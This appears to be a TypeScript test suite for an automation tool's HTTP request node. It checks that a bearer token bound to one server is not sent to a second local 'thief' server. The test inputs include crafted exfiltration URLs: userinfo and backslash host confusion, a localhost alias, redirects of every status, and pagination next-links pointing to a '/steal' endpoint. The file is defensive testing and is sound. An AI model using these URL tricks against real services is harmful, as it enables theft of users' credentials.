import { createCanary, search } from '../../host/canary.ts';
import type { Execution } from '../../host/client.ts';
import { echo, pages, redirect } from '../../host/services/routes.ts';
import { startService, type Service } from '../../host/services/service.ts';
import { connect, inLine, messageOf, sealboxRequest } from './host.ts';

/*
 * Attacks: a second server tries to be sent a credential that belongs to the first one.
 *   - by the URL of the node            - by a redirect of every status
 *   - by a user name in the URL         - by the link to the next page
 */

const client = connect();
const token = createCanary('token');
let service: Service;
let thief: Service;
let bound: string;
let open: string;

beforeAll(async () => {
	thief = await startService({ '/steal': echo });
	const steal = () => `${thief.url}/steal`;
	service = await startService({
		'/echo': echo,
		'/redirect': redirect,
		'/pages': pages(() => true, steal),
		'/linked': (request) => ({ ...echo(request), headers: { link: `<${steal()}>; rel="next"` } }),
	});
	bound = await client.createCredential('Bound', 'sealboxBearerApi', {
		token: token.value,
		baseUrl: service.url,
	});
	open = await client.createCredential('Open', 'sealboxBearerApi', { token: token.value });
});
afterAll(async () => {
	await service?.close();
	await thief?.close();
});

async function call(id: string, url: string, options: object = {}): Promise<Execution> {
	const node = sealboxRequest('sealboxBearerApi', id, { url, options });
	return await client.runOnce(inLine('Thief', node));
}

/** Everything the thief was sent, as one text. */
const loot = () => JSON.stringify(thief.received);

const stolen = () => search([token], 'what the thief got', loot());

describe('a credential with a base URL', () => {
	test('is not sent to the URL of another server', async () => {
		const execution = await call(bound, `${thief.url}/steal`);
		expect(messageOf(execution)).toMatch(/Base URL|may be sent|allowed/i);
		expect(stolen()).toEqual([]);
	});

	test.each([
		['a user name', (host: string, port: string) => `http://${host}@127.0.0.1:${port}/steal`],
		[
			'a user and password',
			(host: string, port: string) => `http://${host.replace(':', ':x')}@127.0.0.1:${port}/steal`,
		],
		['a backslash', (host: string, port: string) => `http://127.0.0.1:${port}\\@${host}/steal`],
		[
			'another name of this machine',
			(_host: string, port: string) => `http://localhost:${port}/steal`,
		],
	])('is not sent when the URL hides the other server behind %s', async (_trick, urlWith) => {
		const execution = await call(
			bound,
			urlWith(new URL(service.url).host, new URL(thief.url).port),
		);
		expect(execution.status).toBe('error');
		expect(stolen()).toEqual([]);
	});

	test.each([301, 302, 303, 307, 308])(
		'does not follow a redirect of status %i there',
		async (status) => {
			const to = encodeURIComponent(`${thief.url}/steal`);
			await call(bound, `${service.url}/redirect?status=${status}&to=${to}`);
			expect(stolen()).toEqual([]);
		},
	);

	test('does not follow a next page in the body there', async () => {
		const pagination = { paginationMode: 'nextLinkField', nextLinkPath: 'next' };
		await call(bound, `${service.url}/pages`, { pagination: { pagination } });
		expect(stolen()).toEqual([]);
	});

	test('does not follow a next page in a header there', async () => {
		const pagination = { paginationMode: 'linkHeader', limitPagesFetched: true, maxRequests: 2 };
		await call(bound, `${service.url}/linked`, { pagination: { pagination } });
		expect(stolen()).toEqual([]);
	});

	test('still reaches its own server, by redirects too', async () => {
		const to = encodeURIComponent(`${service.url}/echo`);
		expect(messageOf(await call(bound, `${service.url}/redirect?to=${to}`))).toBe('');
		expect(service.received.at(-1)?.headers.authorization).toBe(`Bearer ${token.value}`);
	});
});

describe('a credential without a base URL', () => {
	test('goes along neither to a redirect nor to a next page of another server', async () => {
		const to = encodeURIComponent(`${thief.url}/steal`);
		await call(open, `${service.url}/redirect?to=${to}`);
		const pagination = { paginationMode: 'nextLinkField', nextLinkPath: 'next' };
		await call(open, `${service.url}/pages`, { pagination: { pagination } });
		expect(stolen()).toEqual([]);
	});

	// Last on purpose: it shows that the loot is searched at all.
	test('is sent where its node says, and would be found there', async () => {
		await call(open, `${thief.url}/steal`);
		expect(stolen()).not.toEqual([]);
	});
});
